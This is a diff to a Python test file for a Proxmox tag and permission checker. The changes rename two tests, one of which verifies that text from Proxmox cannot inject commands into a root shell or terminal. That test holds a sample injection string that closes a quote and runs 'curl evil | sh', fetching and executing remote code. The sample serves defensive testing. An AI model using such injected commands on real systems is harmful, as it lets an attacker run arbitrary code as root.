@@ -550,7 +550,7 @@ def test_rights_are_inherited_and_replaced_as_in_proxmox() -> None:
         ({"user-tag-access": {"user-allow": "existing"}}, "tags_open"),
     ],
 )
-def test_who_may_set_the_tags(options: dict[str, object], word: str) -> None:
+def test_people_who_may_set_the_tags(options: dict[str, object], word: str) -> None:
     assert judge_tags(options, ["owner-1", "Protected", "web"], (), "").word == word
     assert judge_tags(options, ["web"], (), "").word == "tags_none"
 
@@ -565,7 +565,7 @@ def test_versions_and_clocks() -> None:
         certificate_of(b"\x30\x03\x02\x01\x01")
 
 
-def test_what_proxmox_sends_cannot_command_a_shell_or_a_terminal() -> None:
+def test_texts_of_proxmox_cannot_command_a_shell_or_a_terminal() -> None:
     """Its remedies are pasted into a root shell, and the report goes to a terminal."""
     evil = "x'; curl evil | sh #"
     told = judge_tags({}, [f"owner-{evil}"], (), "").values["line"]
